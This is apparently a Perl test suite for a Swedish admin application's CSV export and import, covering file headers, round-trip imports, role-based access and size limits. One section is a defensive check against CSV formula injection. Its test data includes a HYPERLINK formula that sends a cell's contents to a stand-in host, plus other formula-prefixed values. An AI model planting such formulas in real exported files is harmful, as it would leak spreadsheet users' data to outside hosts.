#!/usr/bin/perl
# Spreadsheets: lists as files, and files as changes: seen first, then saved all or not at all, and taken back.
# routes: /admin/:kind/export /admin/en/:kind/export
use FindBin;
use lib "$FindBin::Bin/lib";
use Medverk::Test;
use Medverk::Browser;

my $dir = folder();
my $db = Medverk::Test::demo_db("$dir/m.db");
my $PASSWORD = 'katt hund hast ko';
for (['anna', 'administrator'], ['erik', 'editor'], ['kim', 'municipality_editor', '--municipality', '0583'], ['lisa', 'reader']) {
	my ($name, $role, @more) = @$_;
	is run('user', 'add', '--email', "$name\@example.se", '--role', $role, @more, '--password-stdin', '--db', $db, { in => $PASSWORD })->{status}, 0, "$name is $role";
}
my $m = Medverk::Test->start(db => $db);

sub signed_in {
	my ($name) = @_;
	my $b = Medverk::Browser->new($m);
	$b->get('/admin/logga-in');
	is $b->submit(email => "$name\@example.se", password => $PASSWORD)->status, 303, "$name signs in";
	return $b;
}
my ($anna, $erik, $kim, $lisa) = map { signed_in($_) } qw(anna erik kim lisa);

# All that a database holds: what an import that changes nothing leaves as it is.
sub state_of { scalar `sqlite3 '$db' 'SELECT * FROM record; SELECT * FROM revision; SELECT * FROM change; SELECT * FROM link; SELECT * FROM translation' | cksum` }

my %folder = (enterprise => 'foretag', project => 'projekt', report => 'rapporter', page => 'pages', organisation => 'organisationer', municipality => 'kommuner', country => 'countries', term => 'terms');
my @kinds = sort keys %folder;

# ------------------------------------------------- what is exported can be imported

sub imports_as_it_is {
	my ($kind, $file, $name) = @_;
	my $before = state_of();
	my $r = run('import', $kind, $file, '--db', $db);
	is $r->{status}, 0, $name or diag $r->{err};
	like $r->{out}, qr/^(\d+) rows: 0 new, 0 changed, \1 the same$/m, 'nothing in it is new';
	is state_of(), $before, 'nothing is written';
}

for my $kind (@kinds) {
	my $list = $anna->get("/admin/$folder{$kind}/export");
	is $list->status, 200, "$kind: a file";
	is $list->header('content-type'), 'text/csv; charset=utf-8; header=present', 'of CSV';
	like $list->header('content-disposition'), qr/^attachment; filename="$folder{$kind}-\d{4}-\d\d-\d\d\.csv"$/, 'with a name and a date';
	is $list->header('cache-control'), 'no-store', 'for this visitor only';
	my $out = run('export', $kind, '--db', $db);
	is $out->{status}, 0, 'the command does the same';
	spew("$dir/$kind.csv", $list->text);
	is $out->{out}, $list->text, 'to the letter';
	like $list->text, qr/^\x{feff}id;slug;/, 'a mark and the names of columns come first';
	imports_as_it_is($kind, "$dir/$kind.csv", "$kind: read again");
}
my $text = $anna->get('/admin/kommuner/export')->text;
like $text, qr/;"58,\d+";/, 'decimals have commas';
like $text, qr/;Linköping\|Norrköping\|Motala\r\n/, 'references have names';
like $anna->get('/admin/foretag/export')->text, qr/;\d{6}-\d{4};/, 'organisation numbers have hyphens';
is $anna->get('/admin/bananer/export')->status, 404, 'of what there is';
like run('export', 'bananer', '--db', $db)->{err}, qr/no kind of record/, 'the command says so';
isnt run('export', 'page', '--db', "$dir/none.db")->{status}, 0, 'without a database there is none';
isnt system("$Medverk::Test::BIN export page --db '$db' >/dev/full 2>/dev/null"), 0, 'a full disk is an error';

# ---------------------------------------------------------- what spreadsheets run

my @names = ('=HYPERLINK("http://x.example/"&A1;"Klicka")', '+46 13 12', '-2+3', '@SUM(A1)', "'=1", "'90-talet", '"citat"; och, mer', "''-x", 'Plus + minus - i mitten');

sub quoted {
	my ($s) = @_;
	$s = "'$s" if $s =~ /^'*[=+\@-]/;
	return '"' . $s =~ s/"/""/gr . '"';
}

spew("$dir/hostile.csv", "name,summary\n" . join '', map { quoted($_) . ',' . quoted($_) . "\n" } @names);
is run('import', 'report', "$dir/hostile.csv", '--db', $db)->{status}, 0, 'names like formulas';
chomp(my @stored = split /\n/, `sqlite3 '$db' "SELECT name FROM record WHERE kind = 'report' ORDER BY id DESC LIMIT 9"`);
is_deeply [sort @stored], [sort @names], 'are stored as they are meant';
$text = $anna->get('/admin/rapporter/export')->text;
my @cells = split /[;\r\n]/, $text =~ s/"((?:[^"]|"")*)"/$1 =~ s{[;\r\n]}{ }gr/egr;
cmp_ok scalar(grep { /^'=HYPERLINK/ } @cells), '==', 2, 'in the file they have an apostrophe';
is_deeply [grep { /^[=+\@\t-]/ && !/^-?[0-9.,]+$/ } @cells], [], 'no cell begins like a formula';
spew("$dir/report.csv", $text);
imports_as_it_is('report', "$dir/report.csv", 'read again');

# -------------------------------------------------------- the list that one sees

sub rows_of { my @rows = split /\r\n(?=[0-9a-f]{8}-)/, $_[0]->text; return @rows - 1 }
is rows_of($anna->get('/admin/foretag/export')), 54, 'a list';
is rows_of($anna->get('/admin/foretag/export?q=bj%C3%B6rken')), 1, 'by words';
is rows_of($anna->get('/admin/foretag/export?state=draft')), 0, 'by state';
is rows_of($anna->get('/admin/foretag/export?q=zzz&page=7')), 0, 'of nothing';
my ($link) = $anna->get('/admin/foretag?q=bj%C3%B6rken&state=published')->text =~ m{href="([^"]*/export\?[^"]*)" download};
ok $link, 'a list has a link';
is rows_of($anna->get($link =~ s/&amp;/&/gr)), 1, 'with what it was filtered by';
html_ok($anna->get('/admin/en/enterprises'), 200, 'in English');
like $anna->{last}->text, qr{/admin/en/enterprises/export\?[^>]*>Download as CSV</a>}, 'too';
like $anna->get('/admin/en/enterprises/export')->header('content-disposition'), qr/"enterprises-/, 'with an English name';
my $own = $kim->get('/admin/foretag/export');
is $own->status, 200, 'a municipality\'s editor';
unlike $own->text, qr/Oasen i Vadstena/, 'gets none of the others\' records';
like $own->text, qr/Bastuflotten/, 'but its own';
is rows_of($own), scalar(() = $kim->get('/admin/foretag')->text =~ /<th scope="row">/g), 'as many as the list has';
is $kim->get('/admin/rapporter/export')->status, 403, 'and nothing of a kind that it does not see';
is $lisa->get('/admin/rapporter/export')->status, 200, 'a reader may read';
is $m->get('/admin/foretag/export')->status, 303, 'who is not signed in is asked to';
is $anna->get('/admin/foretag/export', method => 'HEAD')->body, '', 'HEAD has no body';

# More than a worker should hold.
spew("$dir/long.csv", "name,description\n" . join '', map { "Lång $_," . 'ord och ' x 2400 . "\n" } 1 .. 460);
is run('import', 'page', "$dir/long.csv", '--db', $db)->{status}, 0, 'many long pages';
html_ok($anna->get('/admin/pages/export'), 413, 'too long a list');
like $anna->{last}->text, qr/för lång för en fil/, 'is said to be so';
is $anna->get('/admin/pages/export?q=L%C3%A5ng+45')->status, 200, 'a part of it is given';
cmp_ok length run('export', 'page', '--db', $db)->{out}, '>', 8_000_000, 'and the command gives all';

done_testing;
